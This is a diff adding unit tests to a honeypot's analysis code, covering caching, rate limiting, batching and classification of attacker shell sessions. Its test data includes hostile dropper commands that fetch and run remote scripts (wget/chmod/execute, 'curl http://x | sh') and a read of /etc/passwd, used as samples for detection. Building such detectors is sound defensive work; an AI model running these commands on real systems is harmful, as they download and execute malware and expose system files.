@@ -1,8 +1,10 @@
 import json
 import sqlite3
 import tempfile
+import threading
 import time
 import unittest
+from datetime import datetime, timedelta, timezone
 from pathlib import Path
 from unittest.mock import patch
 
@@ -68,6 +70,190 @@ class V31CoreTests(unittest.TestCase):
         self.assertEqual(data["country"], "CachedLand")
         self.assertEqual(data["enrichment_provider"], "cache")
 
+    def test_enrichment_cache_serves_repeat_lookups_from_memory_then_sqlite(self):
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db_path = str(Path(tmpdir) / "cache.db")
+            try:
+                cache = enrichment.enrichment_cache(db_path)
+                self.assertIs(enrichment.enrichment_cache(db_path), cache)
+                enrichment.store_enrichment_cache(db_path, "8.8.4.4", {"country": "MemoryLand"})
+                stale = (datetime.now(timezone.utc) - timedelta(hours=30)).isoformat()
+                enrichment.store_enrichment_cache(db_path, "1.1.1.1", {"country": "OldLand"}, cached_at=stale)
+                with patch.object(enrichment.sqlite3, "connect", side_effect=AssertionError("no new connections")):
+                    first = enrichment.get_enrichment_cache(db_path, "8.8.4.4")
+                    first["country"] = "mutated"
+                    second = enrichment.get_enrichment_cache(db_path, "8.8.4.4")
+                    expired = enrichment.get_enrichment_cache(db_path, "1.1.1.1")
+                cache.memory.clear()
+                reloaded = enrichment.get_enrichment_cache(db_path, "8.8.4.4")
+                self.assertIsNone(enrichment.get_enrichment_cache(db_path, "8.8.4.4", ttl_hours=0))
+                stats = cache.stats()
+            finally:
+                enrichment.close_enrichment_cache(db_path)
+
+        self.assertEqual((second["country"], second["enrichment_provider"]), ("MemoryLand", "cache"))
+        self.assertIsNone(expired)
+        self.assertEqual(reloaded["country"], "MemoryLand")
+        self.assertEqual(stats["memory"]["hits"], 3)
+        self.assertEqual((stats["sqlite"]["hits"], stats["sqlite"]["misses"]), (1, 2))
+
+    def test_enrichment_cache_compaction_purges_expired_rows_in_batches_and_backfills_epochs(self):
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db_path = str(Path(tmpdir) / "cache.db")
+            legacy = sqlite3.connect(db_path)
+            legacy.execute("CREATE TABLE enrichment_cache (ip TEXT PRIMARY KEY, data TEXT NOT NULL, cached_at TEXT NOT NULL)")
+            legacy.execute("INSERT INTO enrichment_cache VALUES ('5.5.5.5', '{\"country\": \"LegacyLand\"}', ?)",
+                           (datetime.now(timezone.utc).isoformat(),))
+            legacy.execute("INSERT INTO enrichment_cache VALUES ('6.6.6.6', '{}', 'not-a-timestamp')")
+            legacy.commit()
+            legacy.close()
+            try:
+                cache = enrichment.enrichment_cache(db_path)
+                self.assertEqual(cache.get("5.5.5.5")["country"], "LegacyLand")
+                stale = (datetime.now(timezone.utc) - timedelta(hours=30)).isoformat()
+                for i in range(7):
+                    cache.set(f"10.0.0.{i}", {"country": "OldLand"}, cached_at=stale)
+                cache.set("8.8.8.8", {"country": "FreshLand"})
+                result = cache.compact(batch_size=3)
+                stats = cache.stats()
+            finally:
+                enrichment.close_enrichment_cache(db_path)
+            conn = sqlite3.connect(db_path)
+            remaining = dict(conn.execute("SELECT ip, cached_epoch FROM enrichment_cache").fetchall())
+            indexes = [row[1] for row in conn.execute("PRAGMA index_list(enrichment_cache)")]
+            conn.close()
+
+        self.assertEqual((result["purged"], result["backfilled"]), (8, 2))
+        self.assertEqual(sorted(remaining), ["5.5.5.5", "8.8.8.8"])
+        self.assertTrue(all(epoch > 0 for epoch in remaining.values()))
+        self.assertIn("idx_enrichment_cache_epoch", indexes)
+        self.assertEqual((stats["compaction"]["runs"], stats["compaction"]["purged"]), (1, 8))
+
+    def test_enrichment_cache_warm_up_preloads_known_attackers_into_memory(self):
+        import honeypot
+
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db_path = str(Path(tmpdir) / "hp.db")
+            with patch.dict("os.environ", {"HONEYPOT_DB_BUFFER_AUTOSTART": "false"}):
+                db = honeypot.HoneypotDatabase(db_path)
+            try:
+                conn = sqlite3.connect(db_path)
+                conn.executemany(
+                    "INSERT INTO connections (ip, port, service, timestamp) VALUES (?, 22, 'ssh', '2026-01-01T00:00:00Z')",
+                    [("1.1.1.1",)] * 5 + [("2.2.2.2",), ("3.3.3.3",)],
+                )
+                conn.commit()
+                conn.close()
+                cache = enrichment.enrichment_cache(db_path)
+                for ip in ("1.1.1.1", "2.2.2.2", "3.3.3.3", "4.4.4.4"):
+                    cache.set(ip, {"country": f"Land-{ip}"})
+                cache.memory.clear()
+                ranked = db.enrichment_warmup_ips(2)
+                maintenance = enrichment.CacheMaintenance("test", cache, warm_ips_fn=db.enrichment_warmup_ips,
+                                                          warm_limit=2)
+                maintenance.stop(wait=False)
+                state = maintenance.run()
+                with patch.object(cache, "_conn", None):  # warmed entries must not touch SQLite
+                    warmed = [cache.get(ip)["country"] for ip in ranked]
+                cold = cache.get("4.4.4.4")
+            finally:
+                db.close()
+
+        self.assertEqual(ranked, ["3.3.3.3", "1.1.1.1"])
+        self.assertEqual(warmed, ["Land-3.3.3.3", "Land-1.1.1.1"])
+        self.assertEqual(cold["country"], "Land-4.4.4.4")
+        self.assertEqual((state["warmed"], state["status"]), (2, "stopped"))
+
+    def test_concurrent_enrichment_misses_make_one_provider_call(self):
+        enrichment.reset_provider_health()
+        self.addCleanup(enrichment.reset_provider_health)
+        calls = []
+        started = threading.Event()
+
+        def slow_lookup(ip, batcher=None, http=None):
+            calls.append(ip)
+            started.set()
+            time.sleep(0.2)
+            return {"country": "FlightLand", "enrichment_provider": "ip-api"}
+
+        with tempfile.TemporaryDirectory() as tmpdir:
+            db_path = str(Path(tmpdir) / "cache.db")
+            results = []
+            try:
+                with patch.object(enrichment, "_lookup_ip_api", side_effect=slow_lookup):
+                    threads = [
+                        threading.Thread(target=lambda: results.append(enrichment.enrich_ip("8.8.8.8", cache_db_path=db_path)))
+                        for _ in range(10)
+                    ]
+                    threads[0].start()
+                    started.wait(timeout=5)
+                    for thread in threads[1:]:
+                        thread.start()
+                    for thread in threads:
+                        thread.join()
+                    later = enrichment.enrich_ip("8.8.8.8", cache_db_path=db_path)
+            finally:
+                enrichment.close_enrichment_cache(db_path)
+
+        self.assertEqual(calls, ["8.8.8.8"])
+        self.assertEqual([r["country"] for r in results], ["FlightLand"] * 10)
+        self.assertEqual(later["enrichment_provider"], "cache")
+        results[0]["country"] = "mutated"
+        self.assertEqual(results[1]["country"], "FlightLand")
+
+    def test_single_flight_waiters_time_out_without_a_second_call(self):
+        from v31_core import SingleFlight
+
+        flights = SingleFlight()
+        release = threading.Event()
+        leader = threading.Thread(target=lambda: flights.do("ip", lambda: release.wait(5) and "leader"))
+        leader.start()
+        while flights.stats()["in_flight"] == 0:
+            time.sleep(0.001)
+
+        with self.assertRaises(TimeoutError):
+            flights.do("ip", lambda: self.fail("waiter must not run its own call"), timeout=0.05)
+        release.set()
+        leader.join()
+
+        self.assertEqual(flights.do("ip", lambda: "next"), "next")
+        self.assertEqual(flights.stats(), {"in_flight": 0, "leaders": 2, "shared": 1, "timeouts": 1})
+
+    def test_circuit_breaker_opens_then_admits_one_half_open_probe(self):
+        from v31_core import CircuitBreaker
+
+        breaker = CircuitBreaker(failure_threshold=2, reset_seconds=0.05)
+        breaker.record_failure()
+        self.assertTrue(breaker.allow())
+        breaker.record_failure()
+        self.assertEqual(breaker.state, "open")
+        self.assertFalse(breaker.allow())
+        time.sleep(0.06)
+
+        self.assertTrue(breaker.ready())
+        self.assertTrue(breaker.allow())
+        self.assertFalse(breaker.allow())
+        breaker.record_failure()
+        self.assertEqual((breaker.state, breaker.opens), ("open", 2))
+        time.sleep(0.06)
+        self.assertTrue(breaker.allow())
+        breaker.record_success()
+        self.assertEqual(breaker.snapshot()["state"], "closed")
+
+    def test_token_bucket_limits_rate_and_honours_holds(self):
+        from v31_core import TokenBucket
+
+        bucket = TokenBucket(rate=10, capacity=2)
+        self.assertTrue(bucket.try_acquire())
+        self.assertTrue(bucket.try_acquire())
+        self.assertFalse(bucket.try_acquire())
+        self.assertAlmostEqual(bucket.wait_seconds(), 0.1, delta=0.02)
+
+        bucket.hold(0.5)
+        self.assertGreaterEqual(bucket.wait_seconds(), 0.5)
+        self.assertFalse(bucket.try_acquire())
+        self.assertEqual((bucket.granted, bucket.denied), (2, 2))
+
     def test_api_uses_deception_headers_and_decoy_docs(self):
         client = api.app.test_client()
 
@@ -103,6 +289,65 @@ class V31CoreTests(unittest.TestCase):
         self.assertEqual(len(calls), 1)
         self.assertEqual(calls[0][0]["type"], "command")
 
+    def test_write_buffer_splits_bursts_into_sized_batches_without_copying(self):
+        from v31_core import EventWriteBuffer
+
+        calls = []
+        buffer = EventWriteBuffer(flush_interval=10, sink=lambda batch: calls.append(len(batch)), max_batch_size=4)
+        event = {"type": "command", "value": "id"}
+        buffer.add(event)
+        for i in range(9):
+            buffer.add({"type": "command", "value": str(i)})
+
+        self.assertEqual(buffer.flush(), 10)
+        self.assertEqual(calls, [4, 4, 2])
+        metrics = buffer.metrics()
+        self.assertEqual(metrics["batch_size"]["count"], 3)
+        self.assertEqual(metrics["batch_size"]["sum"], 10)
+        self.assertEqual(metrics["flush_latency_seconds"]["count"], 3)
+
+    def test_write_buffer_partial_take_keeps_age_of_events_left_behind(self):
+        from v31_core import EventWriteBuffer
+
+        buffer = EventWriteBuffer(flush_interval=10, max_batch_size=2)
+        with patch("v31_core.time.monotonic", side_effect=[100.0, 101.0, 102.0]):
+            for i in range(3):
+                buffer.add({"value": i})
+        batch, added_at = buffer._take()
+
+        self.assertEqual((len(batch), added_at), (2, [100.0, 101.0]))
+        self.assertEqual(buffer._oldest_at, 102.0)
+        buffer._requeue(batch, added_at)
+        self.assertEqual(buffer._oldest_at, 100.0)
+
+    def test_write_buffer_background_flush_is_size_triggered(self):
+        import threading
+        from v31_core import EventWriteBuffer
+
+        flushed = threading.Event()
+        buffer = EventWriteBuffer(flush_interval=30, sink=lambda batch: flushed.set(), max_batch_size=3)
+        buffer.start()
+        try:
+            for i in range(3):
+                buffer.add({"value": i})
+            self.assertTrue(flushed.wait(timeout=2))
+        finally:
+            buffer.stop()
+
+    def test_write_buffer_background_flush_is_age_triggered(self):
+        import threading
+        from v31_core import EventWriteBuffer
+
+        flushed = threading.Event()
+        buffer = EventWriteBuffer(flush_interval=0.05, sink=lambda batch: flushed.set(), max_batch_size=1000)
+        buffer.start()
+        try:
+            buffer.add({"value": "id"})
+            self.assertTrue(flushed.wait(timeout=2))
+        finally:
+            buffer.stop()
+        self.assertEqual(buffer.pending_count(), 0)
+
     def test_lazy_classifier_submits_work_after_disconnect(self):
         from v31_core import LazyClassifier
 
@@ -111,6 +356,247 @@ class V31CoreTests(unittest.TestCase):
 
         self.assertEqual(future.result(timeout=2), {"session_id": 123, "attack_category": "Recon"})
         classifier.shutdown()
+        stats = classifier.metrics()
+        self.assertEqual((stats["sessions"], stats["unknown"]), (1, 0))
+        self.assertEqual(stats["queue_wait_seconds"]["count"], 1)
+
+    def test_analysis_executor_drops_oldest_queued_task_when_full(self):
+        import threading
+        from v31_core import AnalysisExecutor
+
+        release = threading.Event()
+        executor = AnalysisExecutor(max_workers=1, max_queue=2)
+        blocker = executor.submit(release.wait, 5)
+        deadline = time.time() + 2
+        while executor.queue_depth() and time.time() < deadline:
+            time.sleep(0.01)
+        oldest = executor.submit(lambda: "oldest")
+        middle = executor.submit(lambda: "middle")
+        newest = executor.submit(lambda: "newest")
+        release.set()
+
+        self.assertTrue(oldest.cancelled())
+        self.assertEqual(middle.result(timeout=2), "middle")
+        self.assertEqual(newest.result(timeout=2), "newest")
+        self.assertTrue(blocker.result(timeout=2))
+        executor.shutdown(wait=True)
+        metrics = executor.metrics()
+        self.assertEqual(metrics["dropped"], 1)
+        self.assertEqual(metrics["completed"], 3)
+        self.assertEqual(metrics["workers"], 1)
+        self.assertEqual(metrics["queue_wait_seconds"]["count"], 3)
+
+    def test_lazy_classifier_runs_on_shared_executor_without_owning_it(self):
+        from v31_core import AnalysisExecutor, LazyClassifier
+
+        executor = AnalysisExecutor(max_workers=1)
+        classifier = LazyClassifier(predict_fn=lambda text: "Recon", executor=executor)
+        future = classifier.classify_session_async(7, ["id"])
+
+        self.assertEqual(future.result(timeout=2)["attack_category"], "Recon")
+        classifier.shutdown()
+        self.assertEqual(executor.submit(lambda: 1).result(timeout=2), 1)
+        executor.shutdown(wait=True)
+
+    def test_batched_session_classifier_uses_one_model_call_per_window(self):
+        from v31_core import BatchedSessionClassifier
+
+        model_calls = []
+        applied = []
+
+        def predict_many(documents):
+            model_calls.append(list(documents))
+            return ["Recon" if "whoami" in doc else None for doc in documents]
+
+        classifier = BatchedSessionClassifier(predict_many, apply_fn=applied.append, window_seconds=0.05, max_batch=3)
+        futures = [
+            classifier.submit(1, ["whoami", "id"], context="db"),
+            classifier.submit(2, ["ls"], context="db"),
+            classifier.submit(3, ["whoami"], context="db"),
+        ]
+        results = [future.result(timeout=2) for future in futures]
+        classifier.shutdown()
+
+        self.assertEqual(model_calls, [["whoami\nid", "ls", "whoami"]])
+        self.assertEqual([r["attack_category"] for r in results], ["Recon", "Unknown", "Recon"])
+        stats = classifier.metrics()["classification"]
+        self.assertEqual((stats["sessions"], stats["unknown"], stats["errors"]), (3, 1, 0))
+        self.assertEqual(stats["queue_wait_seconds"]["count"], 3)
+        self.assertEqual(stats["batch_size"]["count"], 1)
+        self.assertEqual(len(applied), 1)
+        self.assertEqual([context for context, _ in applied[0]], ["db", "db", "db"])
+
+    def test_streaming_command_classifier_batches_misses_and_caches_repeats(self):
+        from v31_core import StreamingCommandClassifier
+
+        model_calls = []
+
+        def predict_many(commands):
+            model_calls.append(list(commands))
+            return ["Malware Attempt" if "wget" in cmd else "Recon" for cmd in commands]
+
+        classifier = StreamingCommandClassifier(predict_many, window_seconds=0.01)
+        try:
+            first = [classifier.submit(cmd) for cmd in ("wget http://x/a.sh", "uname -a", "uname -a")]
+            self.assertEqual([f.result(timeout=2) for f in first], ["Malware Attempt", "Recon", "Recon"])
+            repeat = classifier.submit("uname -a")
+            self.assertTrue(repeat.done())
+            self.assertEqual(repeat.result(), "Recon")
+        finally:
+            classifier.shutdown()
+
+        self.assertEqual(model_calls, [["wget http://x/a.sh", "uname -a"]])
+        self.assertEqual(classifier.metrics()["cache"]["hits"], 1)
+
+    def test_resumable_job_checkpoints_each_chunk_and_resumes(self):
+        from v31_core import ResumableJob
+
+        rows = [(i, f"cmd-{i}") for i in range(1, 8)]
+        checkpoints = []
+        fetch = lambda cursor, limit: [row for row in rows if row[0] > cursor][:limit]
+        job = ResumableJob("test", fetch, lambda chunk: len(chunk) - 1, checkpoints.append, chunk_size=3, duty_cycle=1,
+                           state={"cursor": 3, "processed": 3})
+        status = job.run()
+
+        self.assertEqual(status["status"], "completed")
+        self.assertEqual((status["cursor"], status["processed"], status["updated"], status["chunks"]), (7, 7, 2, 2))
+        self.assertEqual([c["cursor"] for c in checkpoints], [3, 6, 7, 7])
+        self.assertEqual(job.status()["chunk_seconds"]["count"], 2)
+
+        failing = ResumableJob("broken", fetch, lambda chunk: 1 / 0, chunk_size=3)
+        self.assertEqual(failing.run()["status"], "failed")
+        self.assertEqual(failing.status()["cursor"], 0)
+
+    def test_resumable_job_follows_new_rows_when_configured(self):
+        import threading
+        from v31_core import ResumableJob
+
+        rows = [(1, "a")]
+        seen = []
+        processed = threading.Event()
+        def process(chunk):
+            seen.extend(chunk)
+            if len(seen) == 2:
+                processed.set()
+            return len(chunk)
+        job = ResumableJob("tail", lambda cursor, limit: [r for r in rows if r[0] > cursor][:limit], process,
+                           duty_cycle=1, follow_seconds=0.01)
+        job.start()
+        try:
+            time.sleep(0.05)
+            self.assertEqual(job.status()["status"], "waiting")
+            rows.append((2, "b"))
+            self.assertTrue(processed.wait(2))
+        finally:
+            job.stop()
+
+        self.assertEqual(seen, [(1, "a"), (2, "b")])
+        self.assertEqual(job.status()["cursor"], 2)
+
+    def test_minhash_groups_droppers_that_differ_only_by_url_and_filename(self):
+        from v31_core import MinHasher
+
+        hasher = MinHasher()
+        first = hasher.signature("cd /tmp; wget http://45.12.1.9/bins/x86.sh -O a8f3k.sh; chmod +x a8f3k.sh; ./a8f3k.sh")
+        second = hasher.signature("cd /tmp; wget http://193.3.55.2/bins/x86.sh -O zq91p.sh; chmod +x zq91p.sh; ./zq91p.sh")
+        other = hasher.signature("uname -a; cat /proc/cpuinfo | grep name")
+
+        self.assertEqual(len(first), hasher.num_perm)
+        self.assertGreaterEqual(hasher.similarity(first, second), 0.9)
+        self.assertLess(hasher.similarity(first, other), 0.2)
+        self.assertTrue(set(hasher.band_keys(first)) & set(hasher.band_keys(second)))
+        self.assertFalse(set(hasher.band_keys(first)) & set(hasher.band_keys(other)))
+        self.assertTrue(all(0 <= key < 2 ** 63 for key in hasher.band_keys(first)))
+
+    def test_session_features_weight_follow_up_actions_by_human_pacing(self):
+        from v31_core import SessionFeatures
+
+        def session(gap):
+            features = SessionFeatures()
+            labels = ["Reconnaissance"] * 4 + ["Brute Force"]
+            for i, label in enumerate(labels):
+                features.observe_command(f"cmd {i}", at=100.0 + i * gap)
+                features.observe_label(i, label)
+            return features
+
+        self.assertEqual(session(0.1).classify(), "Reconnaissance")
+        self.assertEqual(session(5.0).classify(), "Brute Force")
+
+    def test_session_features_match_transcript_score_and_order_late_labels(self):
+        import concurrent.futures
+        from v31_core import SessionFeatures, SessionSequenceClassifier, noise_intent_score
+
+        commands = ["uname -a", "cat /etc/passwd", "uname -a", "wget http://x/a.sh"]
+        features = SessionFeatures()
+        for i, command in enumerate(commands):
+            features.observe_command(command, at=100.0 + i * 5)
+        features.observe_label(2, "Reconnaissance")
+        features.observe_label(0, "Reconnaissance")
+        self.assertEqual(features.pending(), 2)
+        features.observe_label(3, "Malware Attempt")
+        features.observe_label(1, "Reconnaissance")
+
+        self.assertEqual(features.pending(), 0)
+        self.assertEqual(features.intent_score(), noise_intent_score(commands, 15, ["ssh"], [5, 5, 5]))
+        self.assertEqual(dict(features.transitions), {("Reconnaissance", "Malware Attempt"): 1})
+        self.assertEqual(features.classify(), "Malware Attempt")
+
+        applied = []
+        classifier = SessionSequenceClassifier(apply_fn=applied.append, window_seconds=0.01)
+        try:
+            pending = concurrent.futures.Future()
+            classifier.observe(7, "whoami", "Reconnaissance")
+            classifier.observe(7, "curl http://x | sh", pending)
+            self.assertIsNone(classifier.finish(8))
+            finished = classifier.finish(7, context="db")
+            self.assertFalse(finished.done())
+            pending.set_result("Malware Attempt")
+            result = finished.result(timeout=2)
+        finally:
+            classifier.shutdown()
+
+        self.assertEqual(result["attack_category"], "Malware Attempt")
+        self.assertEqual(result["features"]["category_counts"], {"Reconnaissance": 1, "Malware Attempt": 1})
+        self.assertEqual(applied, [[("db", result)]])
+        self.assertEqual(classifier.metrics()["active_sessions"], 0)
+
+    def test_sequence_classifier_resolves_a_finishing_session_evicted_before_its_labels(self):
+        import concurrent.futures
+        from v31_core import SessionSequenceClassifier
+
+        classifier = SessionSequenceClassifier(window_seconds=0.01, max_sessions=2)
+        try:
+            late = concurrent.futures.Future()
+            classifier.observe(1, "uname -a", "Reconnaissance")
+            classifier.observe(1, "wget http://x/a.sh", late)
+            finished = classifier.finish(1)
+            classifier.observe(2, "id", "Reconnaissance")
+            classifier.observe(3, "ls", "Benign")
+            result = finished.result(timeout=2)
+            late.set_result("Malware Attempt")
+        finally:
+            classifier.shutdown()
+
+        self.assertEqual(result["attack_category"], "Reconnaissance")
+        self.assertEqual(result["features"]["commands"], 2)
+        metrics = classifier.metrics()
+        self.assertEqual((metrics["evicted"], metrics["finishing"], metrics["completed"]), (1, 0, 1))
+        self.assertEqual(metrics["active_sessions"], 2)
+
+    def test_sequence_classifier_evicts_the_least_recently_active_session(self):
+        from v31_core import SessionSequenceClassifier
+
+        classifier = SessionSequenceClassifier(window_seconds=0.01, max_sessions=2)
+        try:
+            classifier.observe("long-lived", "uname -a", "Reconnaissance")
+            classifier.observe("idle", "id", "Reconnaissance")
+            classifier.observe("long-lived", "cat /etc/passwd", "Reconnaissance")
+            classifier.observe("new", "ls", "Benign")
+        finally:
+            classifier.shutdown()
+
+        self.assertEqual(list(classifier.sessions), ["long-lived", "new"])
+        self.assertEqual(classifier.sessions["long-lived"].commands, 2)
 
     def test_heavy_analysis_is_skipped_for_short_scanner_sessions(self):
         from v31_core import should_run_heavy_analysis